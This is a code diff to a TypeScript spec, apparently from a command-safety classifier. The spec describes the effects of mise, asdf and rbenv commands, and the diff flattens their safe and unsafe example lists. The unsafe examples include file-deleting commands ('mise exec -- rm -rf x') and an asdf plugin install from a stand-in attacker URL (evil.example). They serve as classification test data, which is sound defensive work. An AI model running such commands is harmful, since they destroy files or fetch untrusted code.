@@ -1,6 +1,6 @@
 /** Version managers for tools: mise, asdf. */
 import { act } from "../contract/effect.ts";
-import { each, line, network, runs, task, texts } from "./makers.ts";
+import { each, line, network, runs, task } from "./makers.ts";
 import { runsBehind, wholly } from "./packages-effects.ts";
 import type { EffectMaker, ProgramSpec } from "./spec.ts";
 
@@ -13,7 +13,7 @@ export const packagesTools: readonly ProgramSpec[] = [
     runner: "mise",
     style: "posix",
     flags: "--version -V --help -h -q --quiet -v --verbose -y --yes --silent",
-    values: { "-C": "cwd", "--cd": "cwd", ...texts("-E --env -j --jobs") },
+    values: { cwd: "-C --cd", text: "-E --env -j --jobs" },
     operands: { max: 0 },
     commands: {
       ...each(
@@ -56,16 +56,14 @@ export const packagesTools: readonly ProgramSpec[] = [
       ...each("watch w", wholly(task)),
       "*": wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands) }]),
     },
-    examples: {
-      safe: ["mise --version"],
-      unsafe: [
-        ["mise run test -- -run TestX", ["run.task", "unknown.use"]],
-        ["mise exec -- rm -rf x", ["run.task", "file.delete"]],
-        ["mise install", ["package.change", "run.helper", "network.contact"]],
-        ["mise trust", ["guard.config-trust"]],
-        ["mise ls", ["run.helper"]],
-      ],
-    },
+    safe: ["mise --version"],
+    unsafe: [
+      ["mise run test -- -run TestX", ["run.task", "unknown.use"]],
+      ["mise exec -- rm -rf x", ["run.task", "file.delete"]],
+      ["mise install", ["package.change", "run.helper", "network.contact"]],
+      ["mise trust", ["guard.config-trust"]],
+      ["mise ls", ["run.helper"]],
+    ],
   },
   {
     names: ["asdf"],
@@ -81,18 +79,16 @@ export const packagesTools: readonly ProgramSpec[] = [
         wholly(act("package.change"), network(null, false), task),
       ),
     },
-    examples: {
-      safe: ["asdf --version"],
-      unsafe: [
-        ["asdf install nodejs 20", ["package.change", "network.contact", "run.task"]],
-        ["asdf plugin add x https://evil.example/x", ["package.change", "network.contact", "run.task"]],
-      ],
-    },
+    safe: ["asdf --version"],
+    unsafe: [
+      ["asdf install nodejs 20", ["package.change", "network.contact", "run.task"]],
+      ["asdf plugin add x https://evil.example/x", ["package.change", "network.contact", "run.task"]],
+    ],
   },
   {
     names: ["rbenv"],
     unread: true,
     launches: "exec",
-    examples: { safe: [], unsafe: [["rbenv exec rm a", ["run.unknown-program", "unknown.use"]]] },
+    unsafe: [["rbenv exec rm a", ["run.unknown-program", "unknown.use"]]],
   },
 ];
